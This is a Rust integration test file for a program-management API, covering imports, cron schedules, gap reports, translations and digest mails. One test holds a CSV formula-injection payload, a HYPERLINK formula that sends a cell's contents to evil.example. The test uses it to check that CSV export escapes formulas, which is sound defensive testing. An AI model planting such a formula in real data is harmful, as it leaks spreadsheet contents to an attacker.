//! What a first real week at a pump maker showed (issue 13): one named test per rule.

use cxpm_tests::{TestApp, both_databases, expect_json, expect_problem, problem_fields};
use reqwest::{Method, StatusCode};
use sea_orm::{ConnectionTrait, Database};
use serde_json::{Value, json};

fn id(v: &Value) -> String {
    v["id"].as_str().unwrap().to_owned()
}

both_databases!(
    an_import_with_an_unknown_column_is_refused_naming_it_also_on_a_dry_run,
    |app: TestApp| async move {
        app.department("Planning", "PLAN").await;
        let csv = "name,email,role,department\nLi Na,li.na@example.cn,member,PLAN\n";
        for dry_run in [true, false] {
            let problem = expect_problem(
                app.import_people(csv, dry_run).await,
                StatusCode::UNPROCESSABLE_ENTITY,
            )
            .await;
            assert_eq!(problem_fields(&problem), ["line 1: department"]);
            let message = problem["errors"][0]["message"].as_str().unwrap();
            assert!(message.contains("department_code"), "{message}");
        }
        let people = expect_json(
            app.get("/api/v1/people?limit=200", &app.admin_token).await,
            StatusCode::OK,
        )
        .await;
        assert_eq!(
            people["items"].as_array().unwrap().len(),
            1,
            "only the admin"
        );
    }
);

both_databases!(
    a_feedback_cadence_that_never_fires_is_refused_like_a_schedule,
    |app: TestApp| async move {
        let (_, coord) = app.someone("coordinator", None).await;
        let plan_dept = app.department("Planning", "PLAN").await;
        let om = app.department("Order management", "OM").await;
        let program = app
            .created("/api/v1/programs", json!({"name": "Pumps"}))
            .await;
        let rel = app
            .created(
                &format!("/api/v1/programs/{}/relationships", id(&program)),
                json!({"provider_department_id": plan_dept["id"], "customer_department_id": om["id"], "delivers": "Plans"}),
            )
            .await;
        let plan = app
            .created(
                &format!("/api/v1/relationships/{}/plans", id(&rel)),
                json!({"title": "Dates that hold"}),
            )
            .await;
        let problem = expect_problem(
            app.patch(
                &format!("/api/v1/plans/{}", id(&plan)),
                &coord,
                Some(&format!("\"{}\"", plan["version"])),
                &json!({"cadence_cron": "0 9 31 2 *", "cadence_time_zone": "Asia/Shanghai"}),
            )
            .await,
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert_eq!(problem_fields(&problem), ["cadence_cron"]);
        assert!(
            problem["errors"][0]["message"]
                .as_str()
                .unwrap()
                .starts_with("never fires")
        );
    }
);

both_databases!(
    a_program_without_a_value_stream_is_not_ready,
    |app: TestApp| async move {
        let program = app
            .created("/api/v1/programs", json!({"name": "Empty"}))
            .await;
        let coverage = expect_json(
            app.get(
                &format!("/api/v1/programs/{}/coverage", id(&program)),
                &app.admin_token,
            )
            .await,
            StatusCode::OK,
        )
        .await;
        assert_eq!(coverage["touchpoints"], 0);
        assert_eq!(coverage["ready"], false);
    }
);

both_databases!(
    cron_errors_speak_of_the_line_as_written_and_schedules_read_in_plain_words,
    |app: TestApp| async move {
        let program = app
            .created("/api/v1/programs", json!({"name": "Reminders"}))
            .await;
        let schedules = format!("/api/v1/programs/{}/schedules", id(&program));
        let problem = expect_problem(
            app.post(
                &schedules,
                &app.admin_token,
                &json!({"kind": "overdue", "cron": "0 25 * * *", "time_zone": "UTC"}),
            )
            .await,
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert_eq!(
            problem["errors"][0]["message"],
            "hour 25 is out of 0–23 (in `0 25 * * *`)"
        );
        let schedule = app
            .created(
                &schedules,
                json!({"kind": "overdue", "cron": "0 9 * * 1-5", "time_zone": "Asia/Shanghai"}),
            )
            .await;
        assert_eq!(
            schedule["description"],
            "09:00, Monday to Friday, Asia/Shanghai"
        );
        // In the reader's own language.
        let (reader, token) = app.someone("executive", None).await;
        expect_json(
            app.patch(
                &format!("/api/v1/people/{}", id(&reader)),
                &app.admin_token,
                Some(&format!("\"{}\"", reader["version"])),
                &json!({"locale": "zh-CN"}),
            )
            .await,
            StatusCode::OK,
        )
        .await;
        let read = expect_json(
            app.get(&format!("/api/v1/schedules/{}", id(&schedule)), &token)
                .await,
            StatusCode::OK,
        )
        .await;
        assert_eq!(read["description"], "09:00，周一至周五，Asia/Shanghai");
    }
);

both_databases!(
    running_a_schedule_twice_in_one_period_queues_nothing_new_unless_forced,
    |app: TestApp| async move {
        let program = app
            .created("/api/v1/programs", json!({"name": "Reminders"}))
            .await;
        // Every day at 00:00 UTC: now is always in a period that began at midnight.
        let schedule = app
            .created(
                &format!("/api/v1/programs/{}/schedules", id(&program)),
                json!({"kind": "overdue", "cron": "0 0 * * *", "time_zone": "UTC"}),
            )
            .await;
        let run = |force: bool| {
            let app = &app;
            let schedule = &schedule;
            async move {
                expect_json(
                    app.post(
                        &format!("/api/v1/schedules/{}/run?force={force}", id(schedule)),
                        &app.admin_token,
                        &json!({}),
                    )
                    .await,
                    StatusCode::OK,
                )
                .await
            }
        };
        let first = run(false).await;
        assert_eq!(first["already_fired_this_period"], false);
        let again = run(false).await;
        assert_eq!(again["already_fired_this_period"], true);
        assert_eq!(again["queued"], 0);
        let forced = run(true).await;
        assert_eq!(forced["already_fired_this_period"], false);
    }
);

/// A program with a customer-facing stage whose sub-process quality inspection owns
/// (its head named), and a metric on that stage with readings.
async fn metric_world(app: &TestApp, target: f64, value: f64) -> (Value, Value, Value, Value) {
    let qa = app.department("Quality inspection", "QA").await;
    let (head, _) = app.head_of(&qa).await;
    let program = app
        .created("/api/v1/programs", json!({"name": "Pumps"}))
        .await;
    let stage = app
        .created(
            &format!("/api/v1/programs/{}/stages", id(&program)),
            json!({"name": "发货验收 Delivery", "customer_facing": true}),
        )
        .await;
    let sub = app
        .created(
            &format!("/api/v1/stages/{}/sub-processes", id(&stage)),
            json!({"name": "Final inspection"}),
        )
        .await;
    app.created(
        &format!("/api/v1/sub-processes/{}/owners", id(&sub)),
        json!({"department_id": qa["id"], "person_id": head["id"], "responsibility": "inspects"}),
    )
    .await;
    let metric = app
        .created(
            &format!("/api/v1/programs/{}/metrics", id(&program)),
            json!({"stage_id": id(&stage), "name": "Dead on arrival", "unit": "%",
                   "direction": "lower_is_better", "target": target}),
        )
        .await;
    app.created(
        &format!("/api/v1/metrics/{}/readings", id(&metric)),
        json!({"period_start": "2026-11-01", "period_end": "2026-11-30", "value": value}),
    )
    .await;
    (program, metric, qa, head)
}

both_databases!(
    a_metric_line_names_the_department_and_owner_of_its_touchpoint,
    |app: TestApp| async move {
        let (program, metric, qa, head) = metric_world(&app, 2.0, 3.5).await;
        let report = expect_json(
            app.get(
                &format!("/api/v1/programs/{}/reports/gaps", id(&program)),
                &app.admin_token,
            )
            .await,
            StatusCode::OK,
        )
        .await;
        let line = &report["lines"][0];
        assert_eq!(line["id"], metric["id"]);
        assert_eq!(line["severity"], "critical");
        assert_eq!(line["department_id"], qa["id"]);
        assert_eq!(line["owner_id"], head["id"]);
        assert_eq!(line["owner_name"], head["name"]);
        let by_department = report["rollups"]["by_department"].as_array().unwrap();
        assert_eq!(by_department.len(), 1);
        assert_eq!(by_department[0]["id"], qa["id"]);
        assert_eq!(by_department[0]["worst"], "critical");
        assert_eq!(by_department[0]["lines_by_severity"]["critical"], 1);
    }
);

both_databases!(
    over_delivery_does_not_hide_a_gap_in_a_rollup,
    |app: TestApp| async move {
        let (program, _, _, _) = metric_world(&app, 4.0, 5.0).await;
        let program_id = id(&program);
        let stage = expect_json(
            app.get(
                &format!("/api/v1/programs/{program_id}/stages"),
                &app.admin_token,
            )
            .await,
            StatusCode::OK,
        )
        .await["items"][0]
            .clone();
        // A second metric far better than its target.
        let better = app
            .created(
                &format!("/api/v1/programs/{program_id}/metrics"),
                json!({"stage_id": id(&stage), "name": "On-time delivery", "unit": "%",
                       "direction": "higher_is_better", "target": 80.0}),
            )
            .await;
        app.created(
            &format!("/api/v1/metrics/{}/readings", id(&better)),
            json!({"period_start": "2026-11-01", "period_end": "2026-11-30", "value": 160.0}),
        )
        .await;
        let report = expect_json(
            app.get(
                &format!("/api/v1/programs/{program_id}/reports/gaps"),
                &app.admin_token,
            )
            .await,
            StatusCode::OK,
        )
        .await;
        let program_rollup = &report["rollups"]["program"];
        // 25 % and a line exceeding its target by 100 %: the mean counts the second as
        // 0, not as −100 %, and the worst line is carried along.
        assert!((program_rollup["relative_gap"].as_f64().unwrap() - 0.125).abs() < 1e-9);
        assert_eq!(program_rollup["worst"], "major");
        assert_eq!(program_rollup["lines_by_severity"]["major"], 1);
        assert_eq!(program_rollup["lines_by_severity"]["met"], 1);
    }
);

both_databases!(
    numbers_at_the_edge_of_f64_are_refused_and_old_snapshots_still_read,
    |app: TestApp| async move {
        let (program, metric, _, _) = metric_world(&app, 2.0, 3.5).await;
        let program_id = id(&program);
        let problem = expect_problem(
            app.post(
                &format!("/api/v1/programs/{program_id}/metrics"),
                &app.admin_token,
                &json!({"stage_id": metric["stage_id"], "name": "Huge", "unit": "x",
                        "direction": "higher_is_better", "target": -1.7e308}),
            )
            .await,
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert_eq!(problem_fields(&problem), ["target"]);
        let problem = expect_problem(
            app.post(
                &format!("/api/v1/metrics/{}/readings", id(&metric)),
                &app.admin_token,
                &json!({"period_start": "2026-10-01", "period_end": "2026-10-31", "value": 1.7e308}),
            )
            .await,
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert_eq!(problem_fields(&problem), ["value"]);

        // A snapshot written by an older version, whose gap overflowed to null.
        let snapshot = app
            .created(
                &format!("/api/v1/programs/{program_id}/reports/gaps/snapshots"),
                json!({"label": "Week 1"}),
            )
            .await;
        let outside = Database::connect(&app.database_url).await.unwrap();
        let old =
            json!({"lines": [{"kind": "metric", "id": metric["id"], "name": "Dead on arrival",
                                    "gap": null, "severity": "critical"}]})
            .to_string();
        outside
            .execute_raw(sea_orm::Statement::from_sql_and_values(
                outside.get_database_backend(),
                match app.backend {
                    cxpm_tests::Backend::Postgres => {
                        "UPDATE report_snapshots SET report = $1 WHERE id = $2"
                    }
                    cxpm_tests::Backend::Sqlite => {
                        "UPDATE report_snapshots SET report = ? WHERE id = ?"
                    }
                },
                [old.into(), id(&snapshot).into()],
            ))
            .await
            .unwrap();
        outside.close().await.unwrap();
        let report = expect_json(
            app.get(
                &format!(
                    "/api/v1/programs/{program_id}/reports/gaps?since_snapshot={}",
                    id(&snapshot)
                ),
                &app.admin_token,
            )
            .await,
            StatusCode::OK,
        )
        .await;
        assert_eq!(report["lines"][0]["change"], "better");
    }
);

both_databases!(
    a_formula_in_a_name_is_written_to_csv_as_text_and_imported_back_unchanged,
    |app: TestApp| async move {
        let formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
        let (program, _, qa, _) = metric_world(&app, 2.0, 3.5).await;
        let qa = expect_json(
            app.get(
                &format!("/api/v1/departments/{}", id(&qa)),
                &app.admin_token,
            )
            .await,
            StatusCode::OK,
        )
        .await;
        expect_json(
            app.patch(
                &format!("/api/v1/departments/{}", id(&qa)),
                &app.admin_token,
                Some(&format!("\"{}\"", qa["version"])),
                &json!({"name": formula}),
            )
            .await,
            StatusCode::OK,
        )
        .await;
        let csv = app
            .request(
                Method::GET,
                &format!("/api/v1/programs/{}/reports/gaps?format=csv", id(&program)),
                Some(&app.admin_token),
            )
            .send()
            .await
            .unwrap()
            .text()
            .await
            .unwrap();
        let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
        let header = reader.headers().unwrap().clone();
        let department = header.iter().position(|h| h == "department").unwrap();
        let row = reader.records().next().unwrap().unwrap();
        assert_eq!(&row[department], format!("'{formula}"));
        assert!(!csv.contains(&format!(",{formula}")));

        // The people import reads such a cell back as it was.
        let imported = expect_json(
            app.import_people(
                "name,email,role\n\"'=SUM(1+1)\",formula@example.com,member\n",
                false,
            )
            .await,
            StatusCode::OK,
        )
        .await;
        assert_eq!(imported["created"][0]["name"], "=SUM(1+1)");
    }
);

both_databases!(
    names_are_shown_in_each_readers_language_and_templates_speak_all_three,
    |app: TestApp| async move {
        let (program, _, qa, _) = metric_world(&app, 2.0, 3.5).await;
        let program_id = id(&program);
        let qa = expect_json(
            app.get(
                &format!("/api/v1/departments/{}", id(&qa)),
                &app.admin_token,
            )
            .await,
            StatusCode::OK,
        )
        .await;
        let renamed = expect_json(
            app.patch(
                &format!("/api/v1/departments/{}", id(&qa)),
                &app.admin_token,
                Some(&format!("\"{}\"", qa["version"])),
                &json!({"name_translations": {"zh-CN": "质量检验", "pt-BR": "Inspeção de qualidade", "en": null}}),
            )
            .await,
            StatusCode::OK,
        )
        .await;
        assert_eq!(renamed["name"], "Quality inspection");
        assert_eq!(renamed["name_translations"]["zh-CN"], "质量检验");
        // A language sent as `null` is left out (the spec says each is nullable).
        assert_eq!(renamed["name_translations"].as_object().unwrap().len(), 2);
        let bad = expect_problem(
            app.post(
                "/api/v1/departments",
                &app.admin_token,
                &json!({"name": "Sales", "code": "SA", "name_translations": {"xx": "?"}}),
            )
            .await,
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert_eq!(problem_fields(&bad), ["name_translations.xx"]);

        let department_name = |locale: &'static str| {
            let app = &app;
            let program_id = program_id.clone();
            async move {
                let (_, token) = app.someone_reading("executive", locale, "UTC").await;
                let report = expect_json(
                    app.get(
                        &format!("/api/v1/programs/{program_id}/reports/gaps"),
                        &token,
                    )
                    .await,
                    StatusCode::OK,
                )
                .await;
                report["lines"][0]["department_name"]
                    .as_str()
                    .unwrap()
                    .to_owned()
            }
        };
        assert_eq!(department_name("zh-CN").await, "质量检验");
        assert_eq!(department_name("pt-BR").await, "Inspeção de qualidade");
        assert_eq!(department_name("en").await, "Quality inspection");

        // The industrial template's stages carry all three languages.
        let other = app
            .created("/api/v1/programs", json!({"name": "Template"}))
            .await;
        let applied = expect_json(
            app.post(
                &format!("/api/v1/programs/{}/templates/industrial", id(&other)),
                &app.admin_token,
                &json!({"departments": {}}),
            )
            .await,
            StatusCode::OK,
        )
        .await;
        for stage in applied["stages"].as_array().unwrap() {
            for tag in ["en", "zh-CN", "pt-BR"] {
                assert!(stage["name_translations"][tag].is_string(), "{stage}");
            }
        }
        assert!(
            applied["stages"]
                .as_array()
                .unwrap()
                .iter()
                .any(|s| s["name_translations"]["pt-BR"] == "Entrega e aceitação")
        );
    }
);

both_databases!(
    a_leadership_digest_reaches_the_readers_its_schedule_names,
    |app: TestApp| async move {
        let (program, _, _, head) = metric_world(&app, 2.0, 3.5).await;
        let (executive, _) = app.someone("executive", None).await;
        let schedule = app
            .created(
                &format!("/api/v1/programs/{}/schedules", id(&program)),
                json!({"kind": "leadership_digest", "cron": "0 9 * * 1", "time_zone": "Asia/Shanghai",
                       "readers": {"roles": ["executive"]}}),
            )
            .await;
        assert_eq!(schedule["readers"]["roles"], json!(["executive"]));
        let dry = expect_json(
            app.post(
                &format!("/api/v1/schedules/{}/dry-run", id(&schedule)),
                &app.admin_token,
                &json!({}),
            )
            .await,
            StatusCode::OK,
        )
        .await;
        let mails = dry["mails"].as_array().unwrap();
        let to: Vec<&Value> = mails.iter().map(|m| &m["recipient_id"]).collect();
        assert_eq!(to, [&executive["id"]]);
        let text = mails[0]["text"].as_str().unwrap();
        // The metric line names its department and owner; no empty "()".
        assert!(text.contains("Quality inspection"), "{text}");
        assert!(text.contains(head["name"].as_str().unwrap()), "{text}");
        assert!(!text.contains("()"), "{text}");
        // The mail says when the schedule sends, in plain words.
        assert!(text.contains("09:00, Monday, Asia/Shanghai"), "{text}");

        // An unknown person as reader is refused, naming the entry.
        let problem = expect_problem(
            app.patch(
                &format!("/api/v1/schedules/{}", id(&schedule)),
                &app.admin_token,
                Some("\"1\""),
                &json!({"readers": {"people": [uuid_like()]}}),
            )
            .await,
            StatusCode::UNPROCESSABLE_ENTITY,
        )
        .await;
        assert_eq!(problem_fields(&problem), ["readers.people[0]"]);
    }
);

fn uuid_like() -> String {
    "01939a3e-0000-7000-8000-000000000000".to_owned()
}
